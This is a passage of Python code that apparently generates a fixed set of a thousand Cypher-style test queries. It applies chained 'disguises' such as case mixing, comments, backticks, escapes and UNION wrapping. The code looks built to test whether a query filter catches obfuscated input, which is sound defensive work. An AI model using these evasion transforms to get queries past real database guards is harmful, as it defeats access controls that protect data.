    return "UNION" if re.search(r"UNION(?! ALL)", text) else "UNION ALL"


def _after_union(text: str) -> str:
    return f"RETURN 0 AS x {_union(text)} {_answering(text)}" if _may_be_within(text) else text


def _before_union(text: str) -> str:
    return f"{_answering(text)} {_union(text)} RETURN 0 AS x" if _may_be_within(text) else text


_DISGUISES: tuple[tuple[Callable[[str], str], ...], ...] = (
    (_lower,),
    (_called,),
    (_commented,),
    (_after_match, _lined),
    (_backticked,),
    (_before_union,),
    (_mixed, _ended),
    (_escaped,),
    (_after_union, _mixed),
    (_misleading,),
    (_after_comment,),
    (_called_as_before, _lower),
    (_torn, _exotic),
    (_after_with, _commented),
    (_shouted, _by_lines),
    (_after_line, _trailed),
    (_exotic,),
    (_called, _called, _mixed),
    (_backticked, _torn, _misleading),
    (_after_match, _after_union, _lower),
    (_by_lines, _ended),
    (_called, _escaped, _lined),
)

_HIDDEN_BY_HAND = re.compile(r"[^\x20-\x7e]|[\\`;]|//|/\*")


def _disguised(text: str, first: int) -> str:
    """Return *text* in the first disguise that changes it, beginning with that one."""
    ways = (_DISGUISES[turn % len(_DISGUISES)] for turn in count(first))
    return next(hidden for way in ways if (hidden := reduce(lambda told, change: change(told), way, text)) != text)


def _written(place: int, shape: Shape) -> Iterator[str]:
    """Yield every text of a shape once: every other one disguised, unless it is a disguise itself."""
    for number, text in enumerate(shape.texts):
        filled = _filled(text, place + number)
        yield _disguised(filled, place * 5 + number) if number % 2 and not _HIDDEN_BY_HAND.search(text) else filled


def _ways(place: int, shape: Shape) -> Iterator[str]:
    """Yield the texts of a shape in ever other disguises."""
    for number in count():
        text = _filled(shape.texts[number % len(shape.texts)], place + number)
        yield _disguised(text, place * 5 + number * 3 + 1)


@cache
def queries() -> tuple[Query, ...]:
    """Return the thousand, the same ones every time: all texts once, then more of the shapes that have fewest."""
    told = {text: shape for place, shape in enumerate(SHAPES) for text in _written(place, shape)}
    held = Counter(told.values())
    ways = {shape: _ways(place, shape) for place, shape in enumerate(SHAPES)}
    while len(told) < HOW_MANY:
        rarest = min(SHAPES, key=held.__getitem__)
        told[next(text for text in ways[rarest] if text not in told)] = rarest
        held[rarest] += 1
    return tuple(Query(shape.name, shape.aim, text) for text, shape in told.items())
